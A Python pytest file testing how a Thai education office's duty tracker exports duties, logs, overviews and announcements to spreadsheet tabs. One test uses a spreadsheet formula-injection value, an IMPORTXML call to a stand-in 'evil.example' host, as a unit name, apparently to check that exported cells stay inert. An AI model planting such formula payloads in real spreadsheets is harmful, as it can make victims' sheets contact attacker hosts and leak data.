"""What planners see of an office at a moment: rows as tables."""

from dataclasses import replace
from datetime import date, datetime, timedelta
from typing import Any

import pytest
from made_up_duties import E5, duty

from domain.broadcasts import Broadcast
from domain.clocks import BANGKOK
from domain.decisions import Decision
from domain.duties import Duty, State
from domain.evidence import Proof
from domain.history import Line
from domain.mirror import Cell, Tab
from domain.sheet.all_duties import MOST_UNITS, all_duties
from domain.sheet.announcements import announcements
from domain.sheet.documents import documents
from domain.sheet.log import log
from domain.sheet.meta import meta
from domain.sheet.overdue import overdue
from domain.sheet.overview import overview
from domain.sheet.seen import Seen

NOW = datetime(2024, 8, 29, 9, 5, tzinfo=BANGKOK)  # a Thursday; E5 is due on 2 September
NAMES = {1: "สมศรี ใจดี", 2: "อนงค์ ศรีสุข", 4: "วรรณา แสงทอง"}


def seen(*duties: Duty, **more: Any) -> Seen:
    """These duties, and nothing said of them."""
    nothing: dict[str, Any] = {
        **{"lines": (), "proofs": {}, "decisions": {}, "documents": (), "announcements": ()},
        "address": lambda key, name: f"https://bot.example/files/{key}/{name}",
    }
    return Seen(NOW, 7, duties, names=NAMES, **nothing | more)


def rows(tab: Tab) -> list[dict[str, Cell]]:
    return [dict(zip(tab.header, row, strict=True)) for row in tab.rows]


def said(number: int, kind: str, words: str = "", by: int | None = 1, **more: Any) -> Line:
    values: dict[str, Any] = {"percent": None, "problem": None, "undone": False} | more
    return Line(number, 5, by, kind, words, at=NOW - timedelta(days=1), **values)


def decided(verdict: str, **more: Any) -> Decision:
    return Decision(5, verdict, 4, 1, at=NOW, **more)


def test_a_duty_is_one_row_with_real_dates_and_thai_beside_them() -> None:
    its = {
        "lines": [said(1, "progress", "ได้ครึ่งทาง"), said(2, "note", "กดผิด", undone=True), said(3, "accept")],
        "proofs": {
            5: [
                Proof("https://drive.example/1", "", ""),
                Proof("", "ภาพ.jpg", "k1"),
                Proof("", "เก่า.pdf", ""),
            ]
        },
        "decisions": {
            5: [decided("accept", step_name="กลั่นกรอง"), decided("record", reference="M-1"), decided("record")]
        },
    }
    one = replace(E5, state=State.IN_PROGRESS, percent=50.0, value=82.5, problem="รอผลสอบ")
    (row,) = rows(all_duties(seen(one, **its)))
    assert row == {
        **{"รหัสแถว": "D000005", "ระบบ": "e-MES", "รอบ": "e-MES ปี 2567", "รหัส": "E5", "ชื่อรายการ": E5.name},
        **{"หน่วยงาน": "กลุ่มนิเทศ", "ผู้รับผิดชอบหลัก": NAMES[1], "ผู้ร่วมรับผิดชอบ": NAMES[2]},
        **{"สถานะ": "กำลังดำเนินการ", "ร้อยละ": 50.0, "ค่าที่รายงาน": 82.5, "วันที่เหลือ": 4, "ปัญหา": "รอผลสอบ"},
        **{"กำหนดเขต": date(2024, 9, 2), "กำหนดเขต (ข้อความ)": "2 ก.ย. 2567 (จ.)"},
        **{"กำหนดส่วนกลาง": date(2024, 9, 15), "กำหนดส่วนกลาง (ข้อความ)": "15 ก.ย. 2567 (อา.)"},
        **{"รายงานล่าสุด": "ได้ครึ่งทาง", "รายงานเมื่อ": date(2024, 8, 28)},
        **{"รายงานเมื่อ (ข้อความ)": "28 ส.ค. 2567 (พ.) 09.05 น.", "ลิงก์": "https://drive.example/1"},
        "ไฟล์": "ภาพ.jpg https://bot.example/files/k1/ภาพ.jpg\nเก่า.pdf (ยกเลิกลิงก์แล้ว)",
        **{
            "ผลการตรวจ": "ผ่านกลั่นกรอง โดย วรรณา แสงทอง เมื่อ 29 ส.ค. 2567 (พฤ.)",
            "เลขที่อ้างอิง": "M-1",
            "ทันกำหนด": "",
            "ทันกำหนดส่วนกลาง": "ทัน",
        },
    }


def test_new_duties_come_at_the_end_and_a_cancelled_one_stays_marked() -> None:
    gone = duty(6, "E6", state=State.CANCELLED)
    its = {"decisions": {6: [Decision(6, "cancel", 4, 1, reason="ซ้ำกับ E5", at=NOW)]}}
    tab = all_duties(seen(E5, gone, duty(9, "A1"), **its))
    assert [row[0] for row in tab.rows] == ["D000005", "D000006", "D000009"]
    cancelled = rows(tab)[1]
    assert (cancelled["สถานะ"], cancelled["วันที่เหลือ"]) == ("ยกเลิก", None)
    assert "ซ้ำกับ E5" in str(cancelled["ผลการตรวจ"])


@pytest.mark.parametrize(
    ("more", "left"),
    [
        ({}, 4),
        ({"office_on": date(2024, 8, 29)}, 0),
        ({"office_on": date(2024, 8, 20)}, -9),
        ({"office_on": date(2024, 9, 28)}, 30),
        ({"office_on": date(2024, 9, 29)}, None),
        ({"opens_on": date(2024, 8, 30)}, None),
        ({"state": State.SUBMITTED}, None),
        ({"state": State.DONE}, None),
        ({"state": State.RETURNED}, 4),
    ],
)
def test_days_are_counted_only_where_somebody_acts_on_them(more: dict[str, Any], left: int | None) -> None:
    assert rows(all_duties(seen(replace(E5, **more))))[0]["วันที่เหลือ"] == left


def test_the_next_morning_writes_only_what_is_near() -> None:
    far, near = duty(6, "E6", office_on=date(2025, 3, 3)), E5
    today, tomorrow = (all_duties(replace(seen(far, near), now=NOW + timedelta(days=n))) for n in (0, 1))
    assert today.rows[0] == tomorrow.rows[0]
    assert today.rows[1] != tomorrow.rows[1]


@pytest.mark.parametrize(
    ("first", "promised", "word"),
    [
        (None, None, ""),
        (datetime(2024, 9, 2, 23, 59, tzinfo=BANGKOK), None, "ทัน"),
        (datetime(2024, 9, 3, 0, 0, tzinfo=BANGKOK), None, "ไม่ทัน"),
        (datetime(2024, 9, 3, 0, 0, tzinfo=BANGKOK), date(2024, 9, 3), "ทัน"),
    ],
)
def test_on_time_in_words(first: datetime | None, promised: date | None, word: str) -> None:
    one = replace(E5, state=State.SUBMITTED, first_submitted_at=first, promised_on=promised)
    assert rows(all_duties(seen(one)))[0]["ทันกำหนด"] == word


def test_how_the_duties_look() -> None:
    other = duty(6, "E6", unit_id=2, unit_name="กลุ่มอำนวยการ")
    evil = duty(7, "E7", unit_id=3, unit_name='=IMPORTXML("http://evil.example","//a")')
    tab = all_duties(seen(E5, other, evil))
    views = {view.title: view for view in tab.looks.views}
    assert [*views] == ["ค้างส่ง", "เดือนนี้", "รายงานล่าสุดก่อน", "กลุ่มนิเทศ", "กลุ่มอำนวยการ"]
    days = tab.header.index("วันที่เหลือ")
    assert views["ค้างส่ง"].where[0].column == days and views["ค้างส่ง"].order == ((days, False),)
    assert tab.looks.formats[tab.header.index("กำหนดเขต")] == "d/m/yyyy"
    assert "เรียงเฉพาะบางคอลัมน์" in tab.looks.notes[0]
    assert {colour.column for colour in tab.looks.colours} == {tab.header.index("สถานะ"), days}
    assert set(tab.looks.widths) == set(range(len(tab.header))) and not tab.looks.typed
    whole = {tab.header[column] for column in tab.looks.wrapped}
    assert {"ชื่อรายการ", "หน่วยงาน", "รายงานล่าสุด", "ปัญหา", "ไฟล์"} <= whole and "รหัส" not in whole


def test_hundreds_of_schools_get_no_view_each() -> None:
    schools = [duty(n, "E1", unit_id=n, unit_name=f"โรงเรียนบ้าน{n}") for n in range(100, 101 + MOST_UNITS)]
    assert [view.title for view in all_duties(seen(E5, *schools)).looks.views[3:]] == ["กลุ่มนิเทศ"]


def test_what_is_due_comes_most_urgent_first_and_what_waits_elsewhere_not_at_all() -> None:
    late = duty(6, "E6", office_on=date(2024, 8, 1))
    far, handed = duty(7, "E7", office_on=date(2024, 9, 6)), duty(8, "E8", state=State.SUBMITTED)
    tab = overdue(seen(E5, late, far, handed))
    assert [(row["รหัสแถว"], row["วันที่เหลือ"]) for row in rows(tab)] == [("D000006", -28), ("D000005", 4)]


def test_the_overview_counts_each_level_by_itself() -> None:
    on_time = datetime(2024, 8, 28, 9, 0, tzinfo=BANGKOK)
    late = datetime(2024, 8, 19, 9, 0, tzinfo=BANGKOK)
    duties = [
        replace(E5, state=State.DONE, first_submitted_at=on_time),
        duty(6, "E6", state=State.RETURNED, first_submitted_at=late, promised_on=date(2024, 8, 16)),
        duty(7, "E7", state=State.BLOCKED, office_on=date(2024, 8, 28), unit_id=2, unit_name="กลุ่มอำนวยการ"),
        duty(8, "E8", state=State.CANCELLED),
        duty(9, "P1", system_code="PIN", system_name="ปักหมุด", round_code="P-1", round_name="ระยะที่ 1"),
    ]
    tab = overview(seen(*duties))
    shown = rows(tab)
    assert [(row["รหัสแถว"], row["ระดับ"], row["หน่วยงาน"]) for row in shown] == [
        ("ทั้งเขต", "ทั้งเขต", ""),
        *(("S:EMES", "ระบบ", ""), ("R:", "รอบ", "")),
        *(("R:/U1", "หน่วยงาน", "กลุ่มนิเทศ"), ("R:/U2", "หน่วยงาน", "กลุ่มอำนวยการ")),
        *(("S:PIN", "ระบบ", ""), ("R:P-1", "รอบ", ""), ("R:P-1/U1", "หน่วยงาน", "กลุ่มนิเทศ")),
    ]
    counts = ("ต้องส่ง", "ส่งแล้ว", "ทันกำหนด", "เสร็จสิ้น", "เลยกำหนด", "ติดปัญหา", "ร้อยละที่ส่ง")
    assert [shown[1][title] for title in counts] == [3, 2, 1, 1, 1, 1, 66.7]
    assert [shown[4][title] for title in counts] == [1, 0, 0, 0, 1, 1, 0.0]
    weeks = ("ส่ง 3 สัปดาห์ก่อน", "ส่ง 2 สัปดาห์ก่อน", "ส่งสัปดาห์ก่อน", "ส่งสัปดาห์นี้")
    assert [shown[1][title] for title in weeks] == [0, 0, 1, 1]
    assert (shown[1]["กำหนดถัดไป"], shown[4]["กำหนดถัดไป"]) == (date(2024, 9, 2), None)
    assert overview(seen()).rows == []


def test_the_log_grows_at_the_end() -> None:
    lines = [
        said(1, "progress", "ได้ 50%", percent=50.0, instead_of=2),
        said(2, "submit", "ส่ง E5", undone=True),
        said(3, "note", by=None, gone="erased"),
    ]
    shown = rows(log(seen(E5, lines=lines)))
    assert [row["เลขที่"] for row in shown] == ["U0000001", "U0000002", "U0000003"]
    assert (shown[0]["ผู้รายงาน"], shown[0]["วันที่"]) == ("สมศรี ใจดี (แทน อนงค์ ศรีสุข)", date(2024, 8, 28))
    assert shown[0]["วันที่ (ข้อความ)"] == "28 ส.ค. 2567 (พ.) 09.05 น."
    assert shown[1]["ประเภท"] == "ส่งงาน (ยกเลิกแล้ว)"
    assert (shown[2]["ผู้รายงาน"], shown[2]["ข้อความ"]) == ("ผู้ใช้ที่ลบข้อมูลแล้ว", "(ลบข้อมูลแล้ว)")
    assert log(seen(E5, lines=lines)).looks.views[0].order == ((0, True),)


def test_an_announcement_tells_how_many_have_read_it_and_one_taken_back_not_whose_it_was() -> None:
    sent = Broadcast(3, 4, "ส่งภายในศุกร์นี้", "sent", (1, 2, 4), (1,), "ศธ 1/2", NOW)
    shown = rows(announcements(seen(announcements=[sent, replace(sent, id=4, words="", to=())])))
    assert [*shown[0].values()] == [
        *("B000003", date(2024, 8, 29), "29 ส.ค. 2567 (พฤ.) 09.05 น.", NAMES[4], "ส่งภายในศุกร์นี้"),
        *(3, 1, 33.3, "ศธ 1/2"),
    ]
    assert (shown[1]["ผู้ประกาศ"], shown[1]["ข้อความ"], shown[1]["ร้อยละที่รับทราบ"]) == ("", "(ลบข้อความแล้ว)", None)


def test_the_digest_is_of_the_cells_and_not_of_the_moment() -> None:
    one, later = seen(E5), replace(seen(E5), now=NOW + timedelta(hours=1), version=8)
    first, second, other = (
        rows(meta([all_duties(at)], at)) for at in (one, later, replace(one, duties=[duty(5, "E6")]))
    )
    assert first[0]["ค่า"] != second[0]["ค่า"] and (first[1]["ค่า"], second[1]["ค่า"]) == (7, 8)
    assert first[2]["ค่า"] == second[2]["ค่า"] != other[2]["ค่า"]
    assert first[3] == {"รายการ": "แถวใน งานทั้งหมด", "ค่า": 1}


def test_every_tab_has_its_ids_in_the_first_column_and_each_header_once() -> None:
    office = seen(E5, lines=[said(1, "note")], announcements=[Broadcast(1, 4, "ก", "sent", (), ())])
    for tab in [make(office) for make in (overview, all_duties, overdue, log, documents, announcements)]:
        assert len({*tab.header}) == len(tab.header)
        ids = [row[0] for row in tab.rows]
        assert all(isinstance(id_, str) and id_ for id_ in ids) and len({*ids}) == len(ids), tab.title
